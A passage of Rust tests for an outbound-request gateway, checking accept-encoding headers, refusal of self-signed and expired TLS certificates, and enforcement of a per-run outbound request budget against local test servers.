    let url = format!("http://allowed.test:{port}/mcp");
    let client = block_on(h.egress.session_client(&url)).unwrap();
    let status = block_on(async {
        client
            .post(&url)
            .body("{}")
            .send()
            .await
            .map(|r| r.status())
    })
    .unwrap();
    assert_eq!(status.as_u16(), 200);
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    let asked: Vec<String> = seen[0]
        .headers
        .iter()
        .map(|h| h.to_ascii_lowercase())
        .filter(|h| h.starts_with("accept-encoding:"))
        .collect();
    assert_eq!(asked, vec!["accept-encoding: identity".to_string()]);

    // TLS: a self-signed or expired upstream passes the checks made when the session opens (they
    // are about the name and addresses), and then the handshake refuses it: no request is sent.
    for presented in [Presented::SelfSigned, Presented::Expired] {
        let (ca_der, identity) = make_certificates(&presented);
        let server = HttpServer::start_tls(
            vec![("/mcp", Route::ok("application/json", "{}"))],
            identity,
        );
        let port = server.port();
        let h = harness(vec![secure(port)]);
        let egress = h.egress.with_root_certificate(&ca_der).unwrap();
        let url = format!("https://secure.test:{port}/mcp");
        let client = block_on(egress.session_client(&url)).unwrap();
        let result = block_on(async {
            client
                .post(&url)
                .body("{}")
                .send()
                .await
                .map(|r| r.status())
        });
        let error = result.expect_err("a bad certificate was accepted");
        assert!(
            format!("{error:?}").contains("InvalidCertificate"),
            "{error:?}"
        );
        assert!(server.seen().is_empty());
    }
}

#[test]
fn a_request_past_the_runs_outbound_budget_is_never_sent() {
    use toolgate_core::budget::{BudgetConfig, BudgetScope, Budgets, Limits};
    let server = HttpServer::start(vec![("/page", Route::html("<h1>Budget</h1>"))]);
    let port = server.port();
    let h = harness(vec![local("127.0.0.1", port)]);
    let url = format!("http://127.0.0.1:{port}/page");
    let scope = BudgetScope {
        budgets: Arc::new(Budgets::new(BudgetConfig {
            per_run: Limits {
                outbound: Some(1),
                ..Limits::default()
            },
            ..BudgetConfig::default()
        })),
        principal: toolgate_core::Principal::local("alice", &[]),
        run: "run-1".into(),
        clock: Arc::new(toolgate_core::SystemClock),
    };
    let (first, second) =
        block_on(scope.run(async { (h.egress.get(&url).await, h.egress.get(&url).await) }));
    assert!(first.is_ok(), "{first:?}");
    let refused = second.expect_err("past the budget");
    assert!(
        matches!(refused, EgressError::BudgetExhausted(_)),
        "{refused:?}"
    );
    assert_eq!(refused.to_tool_error().code, ErrorCode::BudgetExhausted);
    assert_eq!(
        server.seen().len(),
        1,
        "only the first request reached the server"
    );
    assert_eq!(h.egress.requests_sent(), 1);
    let events = h.trace.of_kind("egress");
    assert_eq!(events[1]["decision"], "blocked", "{events:#?}");
    assert_eq!(events[1]["rule"], "budget_exhausted", "{events:#?}");
}
